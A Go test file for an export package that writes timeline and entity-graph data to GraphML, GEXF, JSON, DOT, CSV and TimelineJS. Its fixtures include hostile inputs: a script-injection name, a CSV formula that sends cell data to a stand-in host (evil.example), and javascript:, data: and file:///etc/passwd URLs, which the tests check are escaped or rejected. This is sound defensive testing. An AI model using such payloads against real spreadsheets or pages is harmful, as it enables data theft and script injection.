package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/chronograph/chronograph/timeline"
)

const (
	hostileName = `Mira "Ace" Holt</script><script>alert(1)</script> -- x [label="y"]; \ 
`
	formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

// sample is a small result in English and Japanese, with one entity whose
// name tries to break every format.
func sample() *timeline.Result {
	return &timeline.Result{
		Documents: []timeline.Document{
			{ID: "d1", Source: "news/a.txt", Title: "Talks in Lisbon", URL: "https://example.org/a", Lang: "en", Published: "2025-03-04"},
			{ID: "d2", Source: "news/b.md", Title: "<b>会談</b>", URL: "javascript:alert(2)", Lang: "ja", Published: "2025-03-05"},
		},
		Entities: []timeline.Entity{
			{ID: "E1", Name: "Elena Varga", Type: "PERSON", Aliases: []string{"Varga", "ヴァルガ"}, Langs: []string{"en", "ja"}, Mentions: 4, Documents: 2, FirstSeen: "2025-03-03", LastSeen: "2025-W11"},
			{ID: "E2", Name: "リスボン", Type: "LOCATION", Aliases: []string{"Lisbon", "リスボン"}, Langs: []string{"en", "ja"}, Mentions: 2, Documents: 2},
			{ID: "E3", Name: hostileName, Type: "PERSON\x00", Aliases: []string{"a & b"}, Langs: []string{"en"}, Mentions: 1, Documents: 1},
		},
		Events: []timeline.Event{
			{ID: "ev1", Date: "2025-03-03", Granularity: "day", DateText: "March 3, 2025", Text: "Elena Varga arrived in Lisbon on March 3, 2025.", Lang: "en", Entities: []string{"E1", "E2"}, Sources: []timeline.Source{{Doc: "d1", Start: 0, End: 48}}},
			{ID: "ev2", Date: "2025-W11", Granularity: "week", DateText: "来週", Text: "ヴァルガ氏は来週リスボンを再訪する。", Lang: "ja", Entities: []string{"E1", "E2"},
				Sources: []timeline.Source{{Doc: "d2", Start: 0, End: 54, Text: "ヴァルガ氏は来週リスボンを再訪する。", Lang: "ja"},
					{Doc: "d1", Start: 50, End: 90, Text: "Varga will be back in Lisbon next week.", Lang: "en"}},
				Reports: 3, Languages: []string{"en", "ja"}, FirstReported: "2025-03-03"},
			{ID: "ev3", Date: "2025-02", Granularity: "month", DateText: "February", Text: formula, Lang: "en", Entities: []string{"E3"}, Sources: []timeline.Source{{Doc: "d2", Start: 60, End: 90}}},
			{ID: "ev4", Date: "XXXX-02-07", Granularity: "day", DateText: "7 February", Text: "Undated year.", Lang: "en", Entities: []string{"E1"}},
		},
		Edges: []timeline.Edge{
			{Source: "E1", Target: "E2", Weight: 2},
			{Source: "E1", Target: "E3", Weight: 1},
			{Source: "E1", Target: "E9", Weight: 5}, // E9 was pruned: the edge must go too
		},
	}
}

func write(t *testing.T, f func(io.Writer, *timeline.Result) error) string {
	t.Helper()
	var a, b bytes.Buffer
	if err := f(&a, sample()); err != nil {
		t.Fatal(err)
	}
	if err := f(&b, sample()); err != nil {
		t.Fatal(err)
	}
	if a.String() != b.String() {
		t.Fatal("two writes of one result differ")
	}
	return a.String()
}

// xmlSafe is what a string becomes in XML: characters XML 1.0 forbids are
// replaced.
func xmlSafe(s string) string { return strings.ReplaceAll(s, "\x00", "\uFFFD") }

func TestGraphML(t *testing.T) {
	out := write(t, GraphML)
	var doc struct {
		Graph struct {
			Nodes []struct {
				ID   string `xml:"id,attr"`
				Data []struct {
					Key   string `xml:"key,attr"`
					Value string `xml:",chardata"`
				} `xml:"data"`
			} `xml:"node"`
			Edges []struct {
				Source string `xml:"source,attr"`
				Target string `xml:"target,attr"`
				Weight string `xml:"data"`
			} `xml:"edge"`
		} `xml:"graph"`
	}
	if err := xml.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("not well-formed XML: %v", err)
	}
	if len(doc.Graph.Nodes) != 3 || len(doc.Graph.Edges) != 2 {
		t.Fatalf("%d nodes, %d edges; want 3, 2", len(doc.Graph.Nodes), len(doc.Graph.Edges))
	}
	values := map[string]string{}
	for _, d := range doc.Graph.Nodes[2].Data {
		values[d.Key] = d.Value
	}
	if values["label"] != hostileName || values["type"] != xmlSafe("PERSON\x00") || values["aliases"] != "a & b" {
		t.Errorf("hostile node read back as %q", values)
	}
	if doc.Graph.Edges[0].Weight != "2" {
		t.Errorf("edge weight %q", doc.Graph.Edges[0].Weight)
	}
}

func TestGEXF(t *testing.T) {
	out := write(t, GEXF)
	var doc struct {
		Graph struct {
			Nodes []struct {
				ID    string `xml:"id,attr"`
				Label string `xml:"label,attr"`
			} `xml:"nodes>node"`
			Edges []struct {
				Weight string `xml:"weight,attr"`
			} `xml:"edges>edge"`
		} `xml:"graph"`
	}
	if err := xml.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("not well-formed XML: %v", err)
	}
	if len(doc.Graph.Nodes) != 3 || len(doc.Graph.Edges) != 2 {
		t.Fatalf("%d nodes, %d edges", len(doc.Graph.Nodes), len(doc.Graph.Edges))
	}
	if doc.Graph.Nodes[1].Label != "リスボン" || doc.Graph.Nodes[2].Label != hostileName {
		t.Errorf("labels %q", doc.Graph.Nodes)
	}
}

func TestCytoscapeJSON(t *testing.T) {
	out := write(t, CytoscapeJSON)
	if strings.ContainsAny(out, "<>") {
		t.Error("JSON holds raw < or >: unsafe to paste into a page")
	}
	var doc struct {
		Elements struct {
			Nodes []struct{ Data map[string]any }
			Edges []struct{ Data map[string]any }
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Elements.Nodes) != 3 || len(doc.Elements.Edges) != 2 || doc.Elements.Nodes[2].Data["label"] != hostileName {
		t.Errorf("read back %+v", doc)
	}
	if e := doc.Elements.Edges[0].Data; e["source"] != "E1" || e["target"] != "E2" || e["weight"] != 2.0 {
		t.Errorf("edge %v", e)
	}
}

var dotStatement = regexp.MustCompile(`^  ("(?:[^"\\]|\\.)*")(?: -- ("(?:[^"\\]|\\.)*"))? \[([^\]"]|"(?:[^"\\]|\\.)*")*\];$`)

func TestDOT(t *testing.T) {
	out := write(t, DOT)
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 2+3+2+1 {
		t.Fatalf("%d lines:\n%s", len(lines), out)
	}
	for _, l := range lines[2 : len(lines)-1] {
		if !dotStatement.MatchString(l) {
			t.Errorf("not one statement: %s", l)
		}
	}
	// The hostile name reads back as itself, its line break as \n.
	m := dotStatement.FindStringSubmatch(lines[4])
	label := regexp.MustCompile(`label=("(?:[^"\\]|\\.)*")`).FindStringSubmatch(lines[4])
	if m == nil || label == nil {
		t.Fatalf("no label in %s", lines[4])
	}
	got, err := strconv.Unquote(label[1])
	if err != nil || got != hostileName {
		t.Errorf("label reads back as %q (%v)", got, err)
	}
}

func TestCSV(t *testing.T) {
	out := write(t, CSV)
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 5 {
		t.Fatalf("%d records", len(recs))
	}
	want := map[string][]string{
		"ev2": {"2025-W11", "week", "2025-03-10", "2025-03-16", "来週", "ヴァルガ氏は来週リスボンを再訪する。", "ja", "Elena Varga; リスボン", "E1 E2", "d2 d1", "week 11, 2025", "3", "en ja", "2025-03-03"},
		"ev3": {"2025-02", "month", "2025-02-01", "2025-02-28", "February", "'" + formula, "en", hostileName, "E3", "d2", "Feb 2025", "1", "", ""},
		"ev4": {"XXXX-02-07", "day", "", "", "7 February", "Undated year.", "en", "Elena Varga", "E1", "", "7 Feb (year unknown)", "0", "", ""},
	}
	for _, rec := range recs[1:] {
		if w, ok := want[rec[0]]; ok && strings.Join(rec[1:], "|") != strings.Join(w, "|") {
			t.Errorf("%s = %q\nwant %q", rec[0], rec[1:], w)
		}
	}
}

func TestEventsJSON(t *testing.T) {
	out := write(t, EventsJSON)
	var evs []struct {
		ID, Start, End string
		Entities       []struct{ Name string }
		Sources        []struct{ Title, URL string }
	}
	if err := json.Unmarshal([]byte(out), &evs); err != nil {
		t.Fatal(err)
	}
	if len(evs) != 4 || evs[1].Start != "2025-03-10" || evs[1].End != "2025-03-16" || evs[1].Entities[1].Name != "リスボン" {
		t.Errorf("read back %+v", evs)
	}
	if evs[3].Start != "" {
		t.Errorf("unplaceable date got a span: %+v", evs[3])
	}
}

func TestTimelineJS(t *testing.T) {
	out := write(t, TimelineJS)
	var doc struct {
		Events []struct {
			StartDate   map[string]string `json:"start_date"`
			EndDate     map[string]string `json:"end_date"`
			DisplayDate string            `json:"display_date"`
			Text        struct{ Headline, Text string }
			UniqueID    string `json:"unique_id"`
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Events) != 3 { // the XXXX year cannot be placed
		t.Fatalf("%d events", len(doc.Events))
	}
	day, week, month := doc.Events[0], doc.Events[1], doc.Events[2]
	if day.StartDate["day"] != "3" || day.EndDate != nil {
		t.Errorf("day event dates %v %v", day.StartDate, day.EndDate)
	}
	if week.StartDate["day"] != "10" || week.EndDate["day"] != "16" || week.DisplayDate != "week 11, 2025" {
		t.Errorf("week event dates %v %v %q", week.StartDate, week.EndDate, week.DisplayDate)
	}
	if month.StartDate["month"] != "2" || month.StartDate["day"] != "" {
		t.Errorf("month event given a day: %v", month.StartDate)
	}
	// TimelineJS renders these fields as HTML.
	for _, e := range doc.Events {
		for _, s := range []string{e.Text.Headline, e.Text.Text} {
			if strings.Contains(s, "<script") || strings.Contains(s, "<b>") || strings.Contains(s, "javascript:") {
				t.Errorf("unescaped HTML in %q", s)
			}
		}
	}
	// d2's URL is not http: its title stays plain text; the event's other
	// report (d1, in English) is a link with its sentence.
	if !strings.Contains(week.Text.Text, "<p>[ja] &lt;b&gt;会談&lt;/b&gt;</p>") ||
		!strings.Contains(week.Text.Text, "Talks in Lisbon</a>: Varga will be back in Lisbon next week.") {
		t.Errorf("sources of week event: %q", week.Text.Text)
	}
	if !strings.HasSuffix(week.Text.Headline, " (3 reports)") || strings.Contains(day.Text.Headline, "report") {
		t.Errorf("headlines %q, %q: the report count belongs to events told more than once", week.Text.Headline, day.Text.Headline)
	}
	if !strings.Contains(day.Text.Text, `<a href="https://example.org/a" rel="noopener noreferrer">Talks in Lisbon</a>`) {
		t.Errorf("source of day event: %q", day.Text.Text)
	}
}

func TestFormats(t *testing.T) {
	for _, f := range GraphFormats {
		if err := Graph(io.Discard, sample(), f); err != nil {
			t.Errorf("graph %s: %v", f, err)
		}
	}
	for _, f := range TimelineFormats {
		if err := Timeline(io.Discard, sample(), f); err != nil {
			t.Errorf("timeline %s: %v", f, err)
		}
	}
	if Graph(io.Discard, sample(), "png") == nil || Timeline(io.Discard, sample(), "xlsx") == nil {
		t.Error("unknown format accepted")
	}
}

func TestHTTPURL(t *testing.T) {
	tests := map[string]string{
		"https://example.org/a?b=1":  "https://example.org/a?b=1",
		"HTTP://example.org/":        "http://example.org/",
		"  https://example.org/x  ":  "https://example.org/x",
		"javascript:alert(1)":        "",
		"JavaScript:alert(1)":        "",
		" javascript:alert(1)":       "",
		"data:text/html,<script>":    "",
		"//example.org/protocol-rel": "",
		"/relative/path":             "",
		"https:///no-host":           "",
		"file:///etc/passwd":         "",
		`https://example.org/<b>"x`:  "https://example.org/%3Cb%3E%22x",
	}
	for in, want := range tests {
		if got := HTTPURL(in); got != want {
			t.Errorf("HTTPURL(%q) = %q, want %q", in, got, want)
		}
	}
}
